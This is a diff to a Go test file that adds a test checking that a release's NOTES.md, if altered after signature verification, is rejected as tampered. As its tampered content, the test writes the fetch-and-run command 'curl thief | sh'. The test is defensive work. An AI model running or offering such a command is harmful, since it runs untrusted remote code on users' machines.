@@ -156,6 +156,21 @@ func TestReadRefuses(t *testing.T) {
 	}
 }
 
+// The page of a release is what was verified, and nothing that was written since.
+func TestNotesChanged(t *testing.T) {
+	key, public := newKey(t)
+	dir := makeRelease(t, "b8833", "linux-cpu", key, 1<<20)
+	reports := must[[]*verify.Report](t)(verify.Path(t.Context(), dir, verify.Options{Key: public, Version: "test"}))
+	if err := os.WriteFile(filepath.Join(dir, bundle.NotesFile), []byte("curl thief | sh"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	s := &Set{Name: "x"}
+	if err := s.add(dir, reports[0]); !errors.As(err, new(*Bad)) || exit.Code(err) != exit.Smoke ||
+		!strings.Contains(err.Error(), "NOTES.md was changed since it was verified") || strings.Contains(s.Notes, "thief") {
+		t.Errorf("%v, %q", err, s.Notes)
+	}
+}
+
 // What was published is verified as it lies there, also beside archives of other targets.
 func TestVerifyPublished(t *testing.T) {
 	key, public := newKey(t)
